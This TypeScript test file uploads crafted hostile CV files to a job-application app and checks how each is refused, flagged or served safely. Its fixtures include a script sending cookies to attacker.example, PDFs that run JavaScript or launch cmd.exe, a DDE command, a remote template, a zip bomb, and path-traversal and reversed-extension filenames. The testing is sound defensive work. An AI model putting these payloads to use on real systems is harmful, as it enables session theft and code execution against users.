// One crafted file of each kind of attack, uploaded and opened in a profile: test/input/hostile-files.md has the result
// of each.
import { readFileSync } from 'node:fs'
import path from 'node:path'
import { strToU8, zipSync } from 'fflate'
import { afterAll, expect, test } from 'vitest'
import type { ApplicantProfile } from '#domain/applicants/applicant-profile.ts'
import { CV_MAX_BYTES, DOCX_LIMITS, warningsOf } from '#domain/cvs/cvs.ts'
import { openApp } from '../app.ts'
import { startScriptedClamd } from '../servers/clamd.ts'
import { lyingDocx } from './cv-files.ts'
import { compound, docx, executable, pdf } from './files.ts'
import {
  catalog,
  docOf,
  docxRelated,
  docxWithBody,
  eicar,
  field,
  packedObjects,
  pages,
  pdfOf,
  pdfStream,
  renamedMacro,
} from './hostile-cvs.ts'
import { workDue } from '../work.ts'

const root = path.resolve(import.meta.dirname, '../..')

const clamd = await startScriptedClamd()
afterAll(() => clamd.stop())
const app = await openApp({ env: { CLAMAV_URL: clamd.url } })
const owner = await app.owner()
const job = await app.job(owner)

const html = '<!doctype html><script>fetch("https://attacker.example/" + document.cookie)</script>'
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
const manyEntries = () =>
  docx(
    Object.fromEntries(
      Array.from({ length: DOCX_LIMITS.entries + 1 }, (_, n) => [`x/${n}`, new Uint8Array(0)]),
    ),
  )
const bomb = () => docx({ 'word/media/image.bmp': new Uint8Array(DOCX_LIMITS.unpackedBytes / 10) })

type Case = [kind: string, name: string, make: () => Buffer]

const cases: Case[] = [
  ['A web page with a script, named as a PDF', 'cv.pdf', () => Buffer.from(html)],
  ['A picture (SVG) with a script, named as a PDF', 'cv.pdf', () => Buffer.from(svg)],
  ['A Windows program, named as a PDF', 'cv.pdf', () => executable],
  ['A Windows program with two endings', 'cv.pdf.exe', () => executable],
  ['A PDF, named as a DOCX', 'cv.docx', () => pdf],
  ['An old Excel file, named as a DOC', 'cv.doc', () => compound('Workbook')],
  [
    'A zip without a document, named as a DOCX',
    'cv.docx',
    () => Buffer.from(zipSync({ a: strToU8(html) })),
  ],
  ['A file without content', 'cv.pdf', () => Buffer.alloc(0)],
  [
    'One byte more than 10 MB',
    'cv.pdf',
    () => Buffer.concat([pdf, Buffer.alloc(CV_MAX_BYTES + 1 - pdf.length)]),
  ],
  [
    'A DOCX with macros (a renamed DOCM)',
    'cv.docx',
    () => docx({ 'word/vbaProject.bin': new Uint8Array(100) }),
  ],
  ['A DOCX with macros under another name', 'cv.docx', renamedMacro],
  ['A zip bomb: 200 times its size when unpacked', 'cv.docx', bomb],
  ['A DOCX of more than 2,000 parts', 'cv.docx', manyEntries],
  ['A DOCX that states a false size', 'cv.docx', () => lyingDocx(30_000_000)],
  ['A PDF that is also a web page', 'cv.pdf', () => Buffer.concat([pdf, Buffer.from(html)])],
  [
    'A PDF that is also a zip',
    'cv.pdf',
    () => Buffer.concat([pdf, Buffer.from(zipSync({ a: strToU8(html) }))]),
  ],
  [
    'A PDF that runs a script when it opens',
    'cv.pdf',
    () => pdfOf([catalog('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), pages]),
  ],
  [
    'A PDF whose script is in packed objects that only some readers find',
    'cv.pdf',
    () =>
      pdfOf([
        catalog('/OpenAction 9 0 R'),
        pages,
        pdfStream('/Type/ObjStm/N 4 0 R/First 5 0 R', '9 0 <</S/JavaScript/JS(app.alert(1))>>'),
        '1',
        '4',
      ]),
  ],
  [
    'A PDF that starts a program',
    'cv.pdf',
    () => pdfOf([catalog('/OpenAction<</S/Launch/F(cmd.exe)>>'), pages]),
  ],
  [
    'A PDF with a file in it',
    'cv.pdf',
    () => pdfOf([catalog(), pages, '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>']),
  ],
  [
    'An encrypted PDF',
    'cv.pdf',
    () => pdfOf([catalog(), pages, packedObjects(4, ['<<>>'])], '/Encrypt<</V 2>>'),
  ],
  [
    'A DOC with macros',
    'cv.doc',
    () => docOf({ beside: [{ name: 'Macros', children: [{ name: 'VBA', children: [] }] }] }),
  ],
  ['A DOC that cannot be read', 'cv.doc', () => compound('WordDocument')],
  [
    'A DOCX with a command for another program (DDE)',
    'cv.docx',
    () => docxWithBody(field('DDEAUTO cmd')),
  ],
  ['A DOCX with an embedded object', 'cv.docx', () => docxRelated('oleObject', 'embeddings/a.bin')],
  [
    'A DOCX that loads its template from elsewhere',
    'cv.docx',
    () => docxRelated('attachedTemplate', 'https://attacker.example/a.dotm', { mode: 'External' }),
  ],
  [
    'The same behind 3,000 blanks',
    'cv.docx',
    () =>
      docx({
        'word/_rels/settings.xml.rels': strToU8(
          `${' '.repeat(3000)}<Relationships><Relationship Type="x/attachedTemplate" Target="https://attacker.example/a.dotm" TargetMode="External"/></Relationships>`,
        ),
      }),
  ],
  [
    'A DOCX with a part in letters that are not UTF-8 or UTF-16',
    'cv.docx',
    () => docx({ 'word/header1.xml': strToU8('+ADw-w:hdr/+AD4-') }),
  ],
  ['A PDF whose name leads out of the folder', '../../../etc/passwd.pdf', () => pdf],
  ['A PDF whose name is written backwards', 'cv\u202Efdp.exe.pdf', () => pdf],
  [
    'Malware, where a virus scanner is set',
    'cv.pdf',
    () => pdfOf([catalog(), pages, pdfStream('', eicar, '')]),
  ],
]

let people = 0
/** What the door answers, and what staff see beside the file after it was checked. */
async function verdictOn(name: string, content: Buffer): Promise<{ door: string; staff: string }> {
  const token = await app.grant(`hostile-${++people}@example.com`, job)
  const sent = await app.visitor().form('/api/applications', {
    token,
    firstName: 'Maya',
    lastName: 'Okafor',
    cvFile: new File([new Uint8Array(content)], name),
  })
  const body = (await sent.json()) as { id: string; error?: { message: string } }
  if (sent.status !== 201) return { door: `refused: ${body.error?.message}`, staff: '' }
  const profile = async () =>
    (await owner.call<ApplicantProfile>(`/api/applicants/${body.id}`)).body
  await expect
    .poll(async () => {
      await workDue(app.deps, 'check-cv', 'queue-scans', 'scan-cv')
      return (await profile()).cv?.state
    })
    .not.toBe('waiting')
  const { cv, applicant } = await profile()
  // Nothing of the name that was sent leads anywhere: it is text, and without marks that hide its ending.
  expect(applicant.cv_name).not.toMatch(/[/\\\p{Cf}\p{Cc}]/u)
  const link = await owner.call<{ url?: string; error?: { message: string } }>(
    `/api/applicants/${body.id}/cv-link`,
    { method: 'POST' },
  )
  if (cv?.state === 'infected') return { door: 'taken', staff: link.body.error?.message ?? '' }
  const file = await app.visitor().fetch(link.body.url ?? '')
  // A browser shows none of them as a page: a fixed type that is not guessed at, and no script in it.
  expect(file.headers.get('x-content-type-options')).toBe('nosniff')
  expect(file.headers.get('content-security-policy')).toMatch(/sandbox/)
  expect(file.headers.get('content-type')).not.toMatch(/html|svg|xml$/)
  await file.body?.cancel()
  const warnings = warningsOf(cv?.active_content ?? [])
  return {
    door: 'taken',
    staff: warnings.length > 0 ? warnings.join(' ') : 'opens without a warning',
  }
}

// shows: 7-108, V5.2.2, V5.2.3, V5.4.3
test('each kind of hostile file has the verdict of its table', async () => {
  const rows: string[] = []
  for (const [kind, name, make] of cases) {
    const { door, staff } = await verdictOn(name, make())
    rows.push(`| ${kind} | ${door} | ${staff || 'never arrives'} |`)
  }
  const page = readFileSync(path.join(root, 'test/input/hostile-files.md'), 'utf8')
  const written = page.split('\n').filter((line) => line.startsWith('| '))
  expect(written.slice(2)).toEqual(rows)
}, 240_000)
